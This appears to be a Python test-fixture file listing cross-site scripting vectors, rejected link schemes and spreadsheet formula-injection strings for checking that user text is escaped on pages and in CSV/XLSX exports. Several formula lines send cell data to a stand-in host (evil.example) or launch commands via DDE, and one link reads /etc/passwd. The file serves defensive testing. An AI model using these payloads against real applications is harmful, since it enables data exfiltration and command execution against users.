"""Cross-site scripting vectors for every place people's text reaches a page, and spreadsheet
formula vectors for every place it reaches a CSV or XLSX export.

Every vector that could run script runs `alert(window.__xss=1)`: a browser test then knows both by
a dialog and by the flag whether any of them fired.
"""

RUN = "alert(window.__xss=1)"

VECTORS = [
    # Script tags, plain and disguised.
    f"<script>{RUN}</script>",
    f"<SCRIPT>{RUN}</SCRIPT>",
    f"<script src=data:text/javascript,{RUN}></script>",
    f"<scr<script>ipt>{RUN}</scr</script>ipt>",
    f'<script type="module">{RUN}</script>',
    f"<<script>{RUN};//<</script>",
    f"</textarea><script>{RUN}</script>",
    f"</title><script>{RUN}</script>",
    f'"><script>{RUN}</script>',
    f"'><script>{RUN}</script>",
    # Event handlers.
    f"<img src=x onerror={RUN}>",
    f'<img src="x" onerror="{RUN}">',
    f"<img src=x OnErRoR={RUN}>",
    f"<img/src=x/onerror={RUN}>",
    f"<body onload={RUN}>",
    f"<div onmouseover={RUN}>hover</div>",
    f"<input autofocus onfocus={RUN}>",
    f"<details open ontoggle={RUN}>",
    f"<video><source onerror={RUN}></video>",
    f"<marquee onstart={RUN}>",
    f'" onmouseover="{RUN}" x="',
    f"' onfocus='{RUN}' autofocus x='",
    # Script addresses, with encodings.
    f'<a href="javascript:{RUN}">click</a>',
    f'<a href="JaVaScRiPt:{RUN}">click</a>',
    f'<a href="  javascript:{RUN}">click</a>',
    f'<a href="java\tscript:{RUN}">click</a>',
    f'<a href="java&#9;script:{RUN}">click</a>',
    f'<a href="java&#x0A;script:{RUN}">click</a>',
    f'<a href="&#106;avascript:{RUN}">click</a>',
    f'<a href="&#x6A;&#x61;&#x76;&#x61;&#x73;&#x63;&#x72;&#x69;&#x70;&#x74;:{RUN}">click</a>',
    f'<a href="javascript&colon;{RUN}">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCh3aW5kb3cuX194c3M9MSk8L3NjcmlwdD4=">x</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    f'<form action="javascript:{RUN}"><button>go</button></form>',
    f'<button formaction="javascript:{RUN}">go</button>',
    # SVG and MathML.
    f"<svg onload={RUN}>",
    f"<svg><script>{RUN}</script></svg>",
    f'<svg><a xlink:href="javascript:{RUN}"><text y="20">x</text></a></svg>',
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<math href="javascript:{RUN}">x</math>',
    # Style.
    f'<div style="background:url(javascript:{RUN})">x</div>',
    '<div style="width: expression(alert(window.__xss=1))">x</div>',
    f"<style>@import 'javascript:{RUN}';</style>",
    # Frames and plugins.
    f'<iframe src="javascript:{RUN}"></iframe>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    '<object data="data:text/html,<script>alert(window.__xss=1)</script>"></object>',
    f'<embed src="javascript:{RUN}">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(window.__xss=1)">',
    '<base href="javascript:alert(window.__xss=1)//">',
    # Markdown links and images.
    f"[x](javascript:{RUN})",
    f"[x](JaVaScRiPt:{RUN})",
    f"[x]( javascript:{RUN} )",
    f"[x](javascript&#58;{RUN})",
    f"![x](javascript:{RUN})",
    f'![x](x" onerror="{RUN})',
    f"[x][evil]\n\n[evil]: javascript:{RUN}",
    f"<javascript:{RUN}>",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCh3aW5kb3cuX194c3M9MSk8L3NjcmlwdD4=)",
    f"[x](vbscript:{RUN})",
    # Entity tricks, broken tags, comments.
    f"&lt;script&gt;{RUN}&lt;/script&gt;",
    "<img src=x onerror=&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;>",
    f"<img src=x onerror={RUN}//",
    f'<img """><script>{RUN}</script>">',
    f"<!--<img src=--><img src=x onerror={RUN}//>",
    f"<![CDATA[<script>{RUN}</script>]]>",
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    # Template injection: shown as text, never evaluated.
    "{{ request.user.password }}",
    "{% debug %}",
    "{{7*7}}${7*7}#{7*7}",
    # Unicode: full-width brackets, zero-width joiners, right-to-left override.
    f"＜script＞{RUN}＜/script＞",
    f"<scr\u200bipt>{RUN}</scr\u200bipt>",
    f"\u202e<script>{RUN}</script>",
]

# Addresses the links field must refuse: only http and https are web addresses here.
BAD_LINKS = [
    f"javascript:{RUN}",
    f"JAVASCRIPT:{RUN}",
    f" javascript:{RUN}",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.org/file",
    f"//evil.example/{RUN}",
    f"https://example.org/<img src=x onerror={RUN}>",
]

# Web addresses, so accepted, whose path tries to break out of the attribute it is shown in.
MARKUP_IN_WEB_LINKS = [
    f'http://example.org/"><script>{RUN}</script>',
    f"https://example.org/'><svg/onload={RUN}>",
]

ALL_VECTORS = "\n\n".join(VECTORS)

# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as a candidate could type it
# in a title or an imported packet could give it as a name.
FORMULA_VECTORS = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the guide")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
    '=WEBSERVICE("http://evil.example/")',
    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
    "=1+1",
    "+1+2",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
]

# Every ASCII control character, which an export must drop or keep without letting what follows
# it start a formula.
CONTROL_CHARACTERS = [chr(code) for code in (*range(0x20), 0x7F)]
